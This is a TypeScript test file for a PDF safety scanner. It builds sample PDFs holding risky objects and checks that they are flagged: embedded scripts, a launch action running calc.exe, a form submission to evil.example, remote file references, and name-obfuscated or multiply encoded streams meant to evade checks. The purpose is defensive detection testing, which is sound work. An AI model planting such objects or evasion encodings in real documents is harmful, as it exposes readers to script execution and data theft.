import { randomBytes } from 'node:crypto'
import { deflateSync } from 'node:zlib'
import { expect, test } from 'vitest'
import { findPdfProblem } from './find-problem.ts'

/** A PDF with one more object, which may be a stream. */
function aPdfWith(object: string, stream?: Buffer): Buffer {
  const head = '%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n'
  const body = stream ? [`7 0 obj\n${object}\nstream\n`, stream, '\nendstream\nendobj\n'] : [`7 0 obj\n${object}\nendobj\n`]
  const end = 'trailer\n<< /Root 1 0 R /Size 8 >>\nstartxref\n0\n%%EOF\n'
  return Buffer.concat([head, ...body, end].map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)))
}

/** A PDF with a packed stream of objects. */
const withPacked = (content: string, { filter = '/Filter /FlateDecode', pack = (bytes: Buffer): Buffer => deflateSync(bytes) } = {}) => {
  const bytes = pack(Buffer.from(`7 0 ${content}`))
  return aPdfWith(`<< /Type /ObjStm /N 1 /First 4 ${filter} /Length ${bytes.length} >>`, bytes)
}
const packedNothing = deflateSync(Buffer.from('7 0 << /Type /Page >>')).toString('latin1')
const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'

test('a PDF with pictures, packed objects and links within it is fine', () => {
  expect(findPdfProblem(withPacked('<< /Type /Page >>'))).toBe(null)
  expect(findPdfProblem(aPdfWith('<< /S /GoTo /D [3 0 R /Fit] >>'))).toBe(null)
  expect(findPdfProblem(aPdfWith('<< /First 3 0 R /Title (Chapter \\(1\\) >> stream) /Count 2 >>'))).toBe(null)
  expect(findPdfProblem(withPacked('<< /Title <48> /SoundCheck /MovieNight >>'))).toBe(null)
  expect(findPdfProblem(aPdfWith('<< /Subtype /Image /Filter /DCTDecode >>', randomBytes(4_000_000)))).toBe(null)
})

test.each([
  [script, 'contains a script'],
  ['<< /S /J#61vaScr#69pt /JS (x) >>', 'contains a script'],
  ['<< /Names << /JavaScript 9 0 R >> >>', 'contains a script'],
  ['<< /S /Launch /F (calc.exe) >>', 'starts a program'],
  ['<< /S /#4caunch /F (calc.exe) >>', 'starts a program'],
  ['<< /Type /EmbeddedFile >>', 'has other files in it'],
  ['<< /Subtype /RichMedia >>', 'contains media that can run a program'],
  ['<< /S /Rendition /JS (x) >>', 'contains media that can run a program'],
  ['<< /S /SubmitForm /F (https://evil.example) >>', 'sends what people enter to another computer'],
  ['<< /AcroForm << /XFA [(template) 8 0 R] >> >>', 'is a form that can run scripts'],
  ['<< /S /GoToR /F (//evil.example/a.pdf) >>', 'opens another file'],
  ['<< /S /GoToE /T 3 0 R >>', 'opens another file'],
  ['<< /S /Movie /T (x) >>', 'contains media that can run a program'],
  ['<< /Subtype /Sound/Sound 4 0 R >>', 'contains media that can run a program'],
  ['<< /Type /F /EF<</F 5 0 R>> >>', 'has other files in it'],
  ['<< /S /ImportData /F (x) >>', 'loads data from another file'],
  ['<< /XFA\0\f8 0 R >>', 'is a form that can run scripts'],
  ['<< /Encrypt 5 0 R >>', 'is protected with a password or restrictions'],
])('%s: it %s', (object, problem) => {
  expect(findPdfProblem(aPdfWith(object))).toBe(problem)
  expect(findPdfProblem(withPacked(object))).toBe(problem)
})

test('a script inside the bytes of another stream is found', () => {
  expect(findPdfProblem(aPdfWith('<< /Length 90 >>', Buffer.from(script)))).toBe('contains a script')
})

test.each([
  ['twice', { filter: '/Filter [/FlateDecode /FlateDecode]', pack: (bytes: Buffer) => deflateSync(deflateSync(bytes)) }],
  [
    'as text',
    { filter: '/Filter [/ASCIIHexDecode /FlateDecode]', pack: (bytes: Buffer) => Buffer.from(deflateSync(bytes).toString('hex')) },
  ],
  ['with a predictor', { filter: '/Filter /FlateDecode /DecodeParms << /Predictor 12 >>' }],
  ['in a way named elsewhere', { filter: '/Filter 12 0 R' }],
  ['too large', { pack: (bytes: Buffer) => deflateSync(Buffer.concat([bytes, Buffer.alloc(17 * 1024 * 1024)])) }],
])('objects packed %s can’t be checked', (_, packed) => {
  expect(findPdfProblem(withPacked(script, packed))).toMatch(/packed in a way that we can’t check/)
})

test('what only begins like a PDF, or was cut off, is refused', () => {
  const whole = aPdfWith('<< /Type /Page >>')
  for (const bytes of [whole.subarray(0, whole.length / 2), Buffer.from('%PDF-'), Buffer.from('%PDF-1.7 <html>')]) {
    expect(findPdfProblem(bytes)).toMatch(/^is damaged/)
  }
})

test.each(['>>%x\nstream\n', '>>\0stream\n', '>>\f%\r%y\r\nstream\r\n', '>> stream \n'])('a packed script after %j is found', (begin) => {
  const text = withPacked(script).toString('latin1')
  expect(findPdfProblem(Buffer.from(text.replace('>>\nstream\n', begin), 'latin1'))).toBe('contains a script')
})

test.each([
  ['a text that looks like a stream', (text: string) => text.replace('/N 1', '/X (>>stream\\n) /N 1')],
  ['a hexadecimal text at its end', (text: string) => text.replace(' >>\nstream', ' /X <48>>>\nstream')],
  ['a comment that looks like its beginning', (text: string) => text.replace('/N 1', '/DecodeParms 9 0 R % 7 0 obj <<\n/N 1')],
  ['bytes on the line of "stream"', (text: string) => text.replace('>>\nstream\n', `>>\nstream ${packedNothing}\n`)],
])('a packed script whose dictionary has %s is refused', (_, changed) => {
  expect(findPdfProblem(Buffer.from(changed(withPacked(script).toString('latin1')), 'latin1'))).toMatch(/^(?:contains a script|is damaged)/)
})

test('a script in a version that was replaced later, or added later, is found', () => {
  const [first, second] = [withPacked(script), aPdfWith('<< /Type /Page >>')]
  expect(findPdfProblem(Buffer.concat([first, second]))).toBe('contains a script')
  expect(findPdfProblem(Buffer.concat([second, first]))).toBe('contains a script')
})

test.each([
  '>>stream\n',
  '/First>>stream\n',
  '/First ',
  '/First(',
  '/First<<',
  '/First%',
  '/First>>%',
  '/First>>%\n',
  '/XFA ',
  '/EF 1 ',
  '>>%',
])('two megabytes of %j take a time that grows with their size alone', (repeated) => {
  const pdf = Buffer.from(`%PDF-1.7\n${repeated.repeat((2 * 1024 * 1024) / repeated.length)}\n%%EOF`)
  const began = process.cpuUsage()
  findPdfProblem(pdf)
  // Seconds of processor time. It takes less than a tenth; a square of the size would be minutes.
  expect(process.cpuUsage(began).user / 1_000_000).toBeLessThan(5)
})
